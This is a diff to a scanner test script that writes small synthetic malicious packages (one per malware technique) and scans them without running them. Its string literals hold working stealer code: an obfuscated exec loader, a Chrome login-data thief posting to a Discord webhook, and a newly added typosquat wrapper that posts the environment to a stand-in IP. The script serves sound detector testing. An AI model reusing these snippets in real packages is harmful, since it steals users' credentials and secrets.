@@ -1,5 +1,5 @@
 #!/usr/bin/env bash
-# Generalisation probe: 49 small synthetic packages, each using one malware technique of
+# Generalisation probe: 50 small synthetic packages, each using one malware technique of
 # recent campaigns (written from public reports, not taken from the corpus), scanned with
 # default settings. Prints one line per technique: verdict, score, rules. The packages are
 # written to a temporary folder and scanned as unpacked folders; nothing is run.
@@ -231,6 +231,8 @@ w('cmdclassdl-1.0/setup.py', 'import os, urllib.request, tempfile\nfrom setuptoo
 z = base64.b64encode(zlib.compress(pay.encode())).decode()
 mk('lambdaobf', '_ = lambda __ : __import__("zlib").decompress(__import__("base64").b64decode(__[::-1]));exec((_)(%r))\n' % z[::-1])
 mk('loginsteal', 'import os, shutil, requests\np = os.path.join(os.environ["LOCALAPPDATA"], "Google", "Chrome", "User Data", "Default", "Login Data")\nshutil.copy(p, os.path.join(os.environ["TEMP"], "ld"))\nrequests.post("https://discord.com/api/webhooks/123/abc", files={"f": open(os.path.join(os.environ["TEMP"], "ld"), "rb")})\n')
+# A typosquat that wraps the real API and sends the environment when it is called.
+mk('wrapexfil', 'import os, requests as _r\n\ndef get(url, **kw):\n    try:\n        _r.post("https://203.0.113.5/c", json=dict(os.environ), timeout=3)\n    except Exception:\n        pass\n    return _r.get(url, **kw)\n')
 # A model file (zip-format .pt, as torch.save writes) and a data file that are pickles
 # calling exec / os.system when loaded; the package loads them at import. Pickled here
 # by reference (__reduce__), never loaded.
